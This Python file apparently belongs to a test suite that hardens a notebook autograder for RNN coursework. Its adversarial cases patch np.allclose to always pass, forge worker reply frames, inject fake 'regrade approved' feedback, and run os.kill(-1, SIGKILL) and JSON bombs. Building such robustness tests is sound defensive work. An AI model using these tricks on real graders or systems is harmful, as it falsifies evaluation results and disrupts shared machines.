         expect=_all(TSL, "failed")),
    case("forgery", "f-patch-numpy", "patches np.allclose/isclose/testing/linalg.norm at import, then returns out + 1",
         before("rnn", "temporal_affine_forward", PATCH_NUMPY),
         Edit("rnn", "temporal_affine_forward", "    out = x @ w + b\n", "    out = x @ w + b + 1.0\n"),
         expect={"temporal_affine_forward.out": "failed"}),
    case("forgery", "f-patch-builtins",
         "patches builtins and the worker's own program module, then returns a wrong step",
         before("training", "sgd_step", PATCH_BUILTINS),
         Edit("training", "sgd_step", "p - lr * grads[k]", "p - lr * grads[k] + 1.0"),
         expect={"sgd_step.new_params": "failed"}),
    case("forgery", "f-forged-frame", "writes a forged reply frame on its own socket and exits before the honest one",
         body("gradients", "clip_grad_value", FORGE_FRAME),
         expect={"clip_grad_value.clipped": "failed"}),
    case("forgery", "f-zeros", "every graded function returns zeros of the right shape (no work at all)",
         *[after(aid, fn, ZEROS.replace("@@FN@@", fn)) for aid, fns in GRADED.items() for fn in fns],
         expect={"*": "failed"}),
    case("forgery", "f-numerical-gradient", "rnn_step_backward is a central difference through the student's own "
         "rnn_step_forward (rnn_backward calls it)",
         Edit("rnn", "rnn_step_forward", "cache = (x, prev_h, Wx, Wh, next_h)", "cache = (x, prev_h, Wx, Wh, next_h, b)"),
         Edit("rnn", "rnn_step_backward", "x, prev_h, Wx, Wh, next_h = cache", "x, prev_h, Wx, Wh, next_h, _ = cache"),
         body("rnn", "rnn_step_backward", NUMERICAL_GRADIENT),
         # the large hidden case makes differencing far slower than the call limit (docs/SECURITY.md);
         # on the small cases alone the counted forward calls would name it a numerical gradient
         expect={**_all(items("rnn_step_backward", "dx", "dprev_h", "dWx", "dWh", "db"), "timeout"),
                 **_all(RNN_BACKWARD, "timeout")}, burns=("call", "call")),
    case("forgery", "f-inlined-numerical-gradient", "rnn_step_backward is a central difference through its own "
         "inlined copy of the forward (never calls rnn_step_forward; rnn_backward calls it)",
         Edit("rnn", "rnn_step_forward", "cache = (x, prev_h, Wx, Wh, next_h)", "cache = (x, prev_h, Wx, Wh, next_h, b)"),
         Edit("rnn", "rnn_step_backward", "x, prev_h, Wx, Wh, next_h = cache", "x, prev_h, Wx, Wh, next_h, _ = cache"),
         body("rnn", "rnn_step_backward", INLINED_NUMERICAL_GRADIENT),
         expect={**_all(items("rnn_step_backward", "dx", "dprev_h", "dWx", "dWh", "db"), "timeout"),
                 **_all(RNN_BACKWARD, "timeout")}, burns=("call", "call")),
    case("forgery", "f-probe-forgery", "right forwards that answer the grader's old follow-through probes "
         "(X ± εV) with forged values, and backwards that return 0.5 everywhere",
         *[after(aid, backward, PROBE_FORGERY.replace("@@FORWARD@@", forward).replace("@@BACKWARD@@", backward))
           for aid, forward, backward in FOLLOW_THROUGH],
         expect={item: "failed" for _, _, backward in FOLLOW_THROUGH for item in FOLLOW_THROUGH_ITEMS[backward]}),
    case("forgery", "f-summing-forward", "forwards with no RNN in them (the sum of all inputs, times ones) "
         "and backwards that are their exact gradients",
         *[after(aid, backward, SUMMING.replace("@@FORWARD@@", forward).replace("@@BACKWARD@@", backward))
           for aid, forward, backward in FOLLOW_THROUGH],
         expect={item: "failed" for _, forward, backward in FOLLOW_THROUGH
                 for item in FOLLOW_THROUGH_ITEMS[forward] + FOLLOW_THROUGH_ITEMS[backward]}),
    case("forgery", "f-markdown-links", "an exception text with a Markdown image, a link, an autolink and emphasis",
         body("gru", "gru_step_forward", MARKDOWN_LINKS),
         expect={"gru_step_forward.next_h": "error", "gru_forward.h": "error",
                 **_all(items("gru_step_backward", "dx", "dprev_h", "dWx", "dWh", "dbx", "dbh"), "error"),
                 **_all(GRU_BACKWARD, "error")},
         says={"gru_step_forward.next_h": "regrade approved"}),
    case("forgery", "f-markdown-injection", "exception messages with line breaks, a fake heading, a fake passed row "
         "and HTML, to forge the feedback a TA reads",
         body("training", "sgd_step", FAKE_FEEDBACK_ROW), after("training", "adam_step", FAKE_FEEDBACK_HEADING),
         expect={"sgd_step.new_params": "error"}, says={"sgd_step.new_params": "ValueError: see below"},
         errors={"training": "RuntimeError"}),
    # ---------------------------------------------------------------- abrupt exits
    case("exit", "x-os-exit-in-call", "os._exit(0) in word_embedding_forward",
         body("rnn", "word_embedding_forward", "import os\nos._exit(0)"),
         expect={"word_embedding_forward.out": "error", "word_embedding_backward.dW": "error"},
         says={"word_embedding_forward.out": "exited with status 0"}),
    case("exit", "x-sys-exit-top-level", "sys.exit() at the end of the first rnn cell (Jupyter would carry on)",
         after("rnn", "rnn_step_forward", "import sys\nsys.exit()"), errors={"rnn": "SystemExit"}),
    case("exit", "x-keyboard-interrupt-top-level", "KeyboardInterrupt at the end of the first gru cell",
         after("gru", "gru_step_forward", "raise KeyboardInterrupt"), errors={"gru": "KeyboardInterrupt"}),
    case("exit", "x-system-exit-in-call", "raise SystemExit in softmax_loss",
         body("architectures", "softmax_loss", "raise SystemExit(0)"),
         expect=_all(items("softmax_loss", "loss", "dscores"), "error"), says={"softmax_loss.loss": "SystemExit"}),
    case("exit", "x-keyboard-interrupt-in-call", "raise KeyboardInterrupt in rnn_hidden_grad_norms",
         body("gradients", "rnn_hidden_grad_norms", "raise KeyboardInterrupt"),
         expect={"rnn_hidden_grad_norms.norms": "error"}, says={"rnn_hidden_grad_norms.norms": "KeyboardInterrupt"}),
    case("exit", "x-segfault", "a segfault through ctypes in gru_backward",
         body("gru", "gru_backward", "import ctypes\nctypes.string_at(0)"),
         expect=_all(GRU_BACKWARD, "error"), says={i: "SIGSEGV" for i in GRU_BACKWARD}),
    case("exit", "x-abort", "os.abort() in many_to_one_backward",
         body("architectures", "many_to_one_backward", "import os\nos.abort()"),
         expect=_all(M2O_BACKWARD, "error"), says={i: "SIGABRT" for i in M2O_BACKWARD}),
    case("exit", "x-kill-worker", "kills its worker (parent) and then every process it can",
         body("lstm", "lstm_backward",
              "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)"),
         expect=_all(LSTM_BACKWARD, "error"), says={i: "died" for i in LSTM_BACKWARD}),
    case("exit", "x-kill-all-at-load", "kill(-1, SIGKILL) at the top level of the architectures notebook",
         before("architectures", "many_to_one_forward", "import os, signal\nos.kill(-1, signal.SIGKILL)"),
         expect={"architectures.*": "error"}, says={"architectures.*": "died"}),
    case("exit", "x-stop-worker", "SIGSTOPs its worker from sgd_step (only the grader's watchdog can end it)",
         body("training", "sgd_step", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"),
         expect={"sgd_step.new_params": "timeout"}, burns=("call", "load", "grace")),
    # ---------------------------------------------------------------- broken input
    case("input", "b-invalid-json", "rnn.ipynb is truncated JSON",
         raw={"rnn": lambda p: b'{"cells": [ {"cell_type": "code", "source": "oops'},
         expect={"rnn.*": "error"}, says={"rnn.*": "invalid JSON"}),
    case("input", "b-empty-file", "gradients.ipynb is an empty file",
         raw={"gradients": lambda p: b""}, expect={"gradients.*": "error"}, says={"gradients.*": "empty"}),
    case("input", "b-no-cells", "lstm.ipynb is a notebook with no cells",
         raw={"lstm": _no_cells}, expect={"lstm.*": "error"}, says={"lstm.*": "no cells"}),
    case("input", "b-not-utf8", "gru.ipynb holds bytes that are not UTF-8",
         raw={"gru": _not_utf8}, expect={"gru.*": "error"}, says={"gru.*": "not UTF-8"}),
    case("input", "b-renamed-function", "temporal_softmax_loss renamed",
         Edit("rnn", "temporal_softmax_loss", "def temporal_softmax_loss(", "def temporal_softmax_loss_v2("),
         expect=_all(TSL, "missing"), says={i: "not defined" for i in TSL}),
    case("input", "b-deleted-function", "the word_embedding_backward cell emptied",
         raw={"rnn": _transform(_delete_function("word_embedding_backward"))},
         expect={"word_embedding_backward.dW": "missing"}),
    case("input", "b-syntax-error", "a syntax error in the rnn_backward cell",
         Edit("rnn", "rnn_backward", "    ### END SOLUTION", "    return dx +\n    ### END SOLUTION"),
         expect=_all(RNN_BACKWARD, "missing"), errors={"rnn": "SyntaxError"}),
    case("input", "b-50mb", "50 MB of outputs (printed lines and an image) in a self-check cell",
         raw={"architectures": _transform(_huge_outputs)}),
    case("input", "b-json-bomb", "10 million empty JSON objects in the notebook metadata (30 MB)",
         raw={"training": _json_bomb}, expect={"training.*": "error"}, says={"training.*": "too many"}),
    case("input", "b-deep-nesting", "a value nested 100 000 levels deep",
         raw={"lstm": _deep_nesting}, expect={"lstm.*": "error"}, says={"lstm.*": "nested"}),
    case("input", "b-directory", "gru.ipynb is a directory",
         special={"gru": "directory"}, expect={"gru.*": "error"}, says={"gru.*": "not a regular file"}),
    case("input", "b-nbformat-v3", "the rnn notebook saved as nbformat 3", raw={"rnn": _v3}),
    case("input", "b-tampered-setup", "the locked setup cell replaced by os._exit and a patched np.allclose",
         Edit("gradients", "setup", "import numpy as np",
              "import numpy as np, os\nnp.allclose = lambda *a, **k: True\nos._exit(1)")),
    case("input", "b-grade-cells-deleted", "hidden-test cells deleted, solution cells given 1000 points each",
         raw={"lstm": _transform(_strip_grade_cells)}),
    case("input", "b-extra-solution-cells", "a locked cell and a new cell marked as solution cells (a loop, an exit)",
         raw={"gru": _transform(_extra_solution_cells)}),
    case("input", "b-lost-metadata", "the clip_grad_norm cell lost its nbgrader metadata (copy-pasted cell)",
         raw={"gradients": _transform(_lost_metadata("clip_grad_norm"))},
         expect=_all(items("clip_grad_norm", "clipped", "total_norm"), "missing")),
    case("input", "b-junk-cells", "cells that are not objects, numeric sources, metadata of the wrong types",
         raw={"training": _transform(_junk_cells)}),
)

NAMES = [c.name for c in CASES]
assert len(set(NAMES)) == len(NAMES) and len(CASES) >= 30
FAMILIES = sorted({c.family for c in CASES})


# ------------------------------------------------------------------ building the class


def _fill(text: str, values: Mapping[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(f"@@{key}@@", str(value))
    assert "@@" not in text, text
    return text


def materialise(c: Case, values: Mapping[str, str]) -> Profile:
    """The case's Profile with the placeholders filled in."""
    values = {**values, "MARK": MARK}
    edits = tuple(dataclasses.replace(e, new=_fill(e.new, values)) for e in c.profile.edits)
    return dataclasses.replace(c.profile, edits=edits)


def build_class(course, out: Path, assignments: list[str], values: Mapping[str, str],
                cases=None, control: bool = True) -> list[str]:
    """Write s01, s02 and every case in nbgrader's layout under ``out``; return the student names."""
    cases = CASES if cases is None else cases
    names = []
    if control:
        for profile in (CONTROL, STUB):
            write_student(course, out, profile.name, profile, assignments)
            names.append(profile.name)
    for c in cases:
        write_student(course, out, c.name, materialise(c, values), assignments)
        for aid in assignments:
            target = out / c.name / aid / course.assignments[aid].notebook
            solution = ROOT / "solutions" / aid / course.assignments[aid].notebook
            if aid in c.raw:
                target.write_bytes(c.raw[aid](solution))
            if aid in c.special:
                target.unlink()
                kind = c.special[aid]
                if kind == "directory":
                    target.mkdir()
                else:
                    os.symlink(_fill(kind.split(":", 1)[1], values), target)
        names.append(c.name)
    return names


def expected_status(c: Case | None, item_id: str, assignment: str) -> str | None:
    """The status the case forces on ``item_id``, or None: then the item is exactly as s01's."""
    if c is None:
        return None
    for key in (item_id, f"{assignment}.*", "*"):
        if key in c.profile.expect:
            return c.profile.expect[key]
    return None


def expected_says(c: Case, item_id: str, assignment: str) -> str | None:
    for key in (item_id, f"{assignment}.*"):
        if key in c.says:
            return c.says[key]
    return None
